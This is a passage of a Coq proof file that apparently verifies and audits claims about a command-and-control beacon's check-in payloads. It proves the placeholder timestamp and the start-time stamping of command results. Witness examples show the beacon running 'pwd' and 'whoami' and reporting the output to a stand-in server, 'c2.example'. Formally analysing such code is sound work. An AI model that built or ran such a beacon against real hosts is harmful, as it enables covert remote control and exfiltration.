  split; [vm_compute; reflexivity |].
  eexists. split; [reflexivity |].
  split; vm_compute; reflexivity.
Qed.

(** ** The payloads that are sent: timestamps *)

Lemma command_result_timestamp cmd h : timestamp (command_result cmd h) = clock h.
Proof. unfold command_result. apply execute_command_timestamp. Qed.

Lemma imap_timestamps (host : nat -> host_env) (commands : list command_t) :
  forall k,
  map timestamp (imap (fun i cmd => command_result cmd (host (k + i)%nat)) commands)
  = imap (fun i _ => clock (host (k + i)%nat)) commands.
Proof.
  induction commands as [| cmd rest IH]; intros k; [reflexivity |].
  rewrite !imap_cons. cbn [map]. rewrite command_result_timestamp.
  f_equal.
  rewrite (imap_ext _ (fun i cmd => command_result cmd (host (S k + i)%nat)))
    by (intros i x _; cbn; do 2 f_equal; lia).
  rewrite (imap_ext (_ ∘ S) (fun i _ => clock (host (S k + i)%nat)))
    by (intros i x _; cbn; do 2 f_equal; lia).
  apply IH.
Qed.

Lemma map_snd_result_fields rs : map snd (map result_fields rs) = map timestamp rs.
Proof. induction rs as [| r rs IH]; [reflexivity |]. cbn. rewrite IH. reflexivity. Qed.

(** C10 (as amended). For a beacon whose identity fits its array, the
    payload every check-in builds, of whatever shape and over either
    scheme, opens with the identity followed by the timestamp field with
    the literal 2024-01-01T00:00:00Z as its value; no clock is read for
    it.  The results a round leaves in the buffer carry, in the order of
    the commands, the clock readings taken when the execution of each
    command was entered; and these, behind the literal as the timestamp
    of the payload, are what a decoder reads from the body of the next
    request over HTTP when the records fit and their strings are
    plain. *)
Theorem payload_timestamp_is_placeholder
    (config : beacon_config_t) (sysinfo : option system_info_t)
    (results : option (list command_result_t)) (result_count : Z)
    (commands : list command_t) (host : nat -> host_env) (st : beacon_state) :
  strlen (beacon_id config) < BEACON_ID_LEN ->
  length (g_results st) = 64%nat ->
  let opening :=
    lit "{" ++ jstr "beacon_id" (beacon_id config) ++ lit ","
    ++ jstr "timestamp" (lit "2024-01-01T00:00:00Z") in
  let st' :=
    fst (process_commands commands O host
           (mk_state (g_sysinfo st) (g_running st) (g_results st) 0)) in
  opening `prefix_of`
    content (req_json (http_checkin_request config sysinfo results result_count))
  /\ opening `prefix_of`
       content (req_json (https_checkin_request config sysinfo results
                            result_count))
  /\ map timestamp (result_buffer st')
     = imap (fun i _ => clock (host i)) (take 64 commands)
  /\ (commands <> [] -> plain (beacon_id config) = true ->
      forallb plain_result (result_buffer st') = true ->
      fits_payload config (result_buffer st') ->
      exists body items,
        req_data (http_checkin_request config None (Some (g_results st'))
                    (g_result_count st'))
        = Some body
        /\ decode_payload body
           = Some (beacon_id config, lit "2024-01-01T00:00:00Z", items)
        /\ map snd items = imap (fun i _ => clock (host i)) (take 64 commands)).
Proof.
  intros Hid Hlen opening st'.
  change opening with (payload_opening config).
  assert (Hfirst : forall si,
             payload_opening config
             `prefix_of` snprintf MAX_BUFFER_SIZE (first_checkin_json config si)).
  { intros si. destruct (first_checkin_json_opening config si) as [tail ->].
    apply snprintf_keeps_opening, Hid. }
  assert (Hreg : payload_opening config
                 `prefix_of` snprintf MAX_BUFFER_SIZE (regular_checkin_json config)).
  { rewrite regular_checkin_json_opening. apply snprintf_keeps_opening, Hid. }
  set (cleared := mk_state (g_sysinfo st) (g_running st) (g_results st) 0) in *.
  pose proof (process_commands_buffer commands O host cleared Hlen
                ltac:(cbn; lia)) as (Hbuf & Hcount & _).
  fold st' in Hbuf, Hcount.
  change (result_buffer cleared) with (take 0 (g_results st)) in Hbuf.
  change (64 - Z.to_nat (g_result_count cleared))%nat with 64%nat in Hbuf.
  rewrite take_0, app_nil_l in Hbuf.
  assert (Hts : map timestamp (result_buffer st')
                = imap (fun i _ => clock (host i)) (take 64 commands)).
  { rewrite Hbuf. apply (imap_timestamps host (take 64 commands) O). }
  split; [| split; [| split; [exact Hts |]]].
  - unfold http_checkin_request.
    destruct sysinfo as [si |]; [apply Hfirst |].
    destruct results as [rs |]; [| apply Hreg].
    destruct (result_count >? 0); [| apply Hreg].
    apply results_checkin_json_opening, Hid.
  - unfold https_checkin_request.
    destruct sysinfo as [si |]; [apply Hfirst | apply Hreg].
  - intros Hne Hplain Hrs Hfit.
    exists (result_bearing_shape config (result_buffer st')),
           (map result_fields (result_buffer st')).
    split; [| split].
    + apply results_request_body; [| exact Hfit].
      rewrite Hcount. change (g_result_count cleared) with 0.
      destruct commands; [contradiction | cbn [length]; lia].
    + apply decode_payload_plain; assumption.
    + rewrite map_snd_result_fields. exact Hts.
Qed.

Lemma payload_timestamp_is_placeholder_witness :
  (strlen (beacon_id (sample_config "http://c2.example/api")) < BEACON_ID_LEN
   /\ length (g_results (running_with [])) = 64%nat)
  /\ exists body items,
       req_data
         (http_checkin_request (sample_config "http://c2.example/api") None
            (Some (g_results
                     (fst (process_commands
                             [mk_command (lit "c1") (lit "pwd") [];
                              mk_command (lit "c2") (lit "whoami") []] O
                             (fun _ => quiet_host) (running_with [])))))
            (g_result_count
               (fst (process_commands
                       [mk_command (lit "c1") (lit "pwd") [];
                        mk_command (lit "c2") (lit "whoami") []] O
                       (fun _ => quiet_host) (running_with [])))))
       = Some body
       /\ decode_payload body
          = Some (beacon_id (sample_config "http://c2.example/api"),
                  lit "2024-01-01T00:00:00Z", items)
       /\ map snd items = [clock quiet_host; clock quiet_host].
Proof.
  split; [split; [vm_compute |]; reflexivity |].
  destruct (payload_timestamp_is_placeholder
              (sample_config "http://c2.example/api") None None 0
              [mk_command (lit "c1") (lit "pwd") [];
               mk_command (lit "c2") (lit "whoami") []]
              (fun _ => quiet_host) (running_with []))
    as (_ & _ & _ & Hbody); [vm_compute; reflexivity | reflexivity |].
  apply Hbody; [discriminate | reflexivity | vm_compute; reflexivity |].
  split.
  - intros k Hk. destruct k as [| [| k]]; [vm_compute; reflexivity .. |].
    exfalso. vm_compute in Hk. lia.
  - vm_compute. reflexivity.
Defined.

(** C10 (as stated) fails: the timestamp of a result is not the time the
    command completed.  A command that is entered at 10:00:00 and has
    run to completion at 10:00:05 leaves a result stamped 10:00:00, and
    that is the timestamp the next request carries in its record. *)
Lemma result_timestamp_is_the_start_time :
  let x :=
    mk_timed (mk_host (lit "2024-05-01T10:00:00Z") (fun _ => PopenRuns [] 0)
                      (Some (lit "/tmp")))
             (lit "2024-05-01T10:00:05Z") in
  let cmd := mk_command (lit "c1") (lit "shell") (lit "sleep 5") in
  let st' := fst (process_commands [cmd] O (fun _ => on_entry x)
                    (running_with [])) in
  map timestamp (result_buffer st') = [clock (on_entry x)]
  /\ map timestamp (result_buffer st') <> [clock_on_completion x]
  /\ exists body,
       req_data (http_checkin_request (sample_config "http://c2.example/api")
                   None (Some (g_results st')) (g_result_count st'))
       = Some body
       /\ decode_payload body
          = Some (beacon_id (sample_config "http://c2.example/api"),
                  lit "2024-01-01T00:00:00Z",
                  [(lit "c1", true, [], lit "2024-05-01T10:00:00Z")]).
Proof.
  cbv zeta. split; [vm_compute; reflexivity |].
  split; [vm_compute; discriminate |].
  eexists. split; [reflexivity |]. vm_compute. reflexivity.
Qed.

(** ** The exit status *)










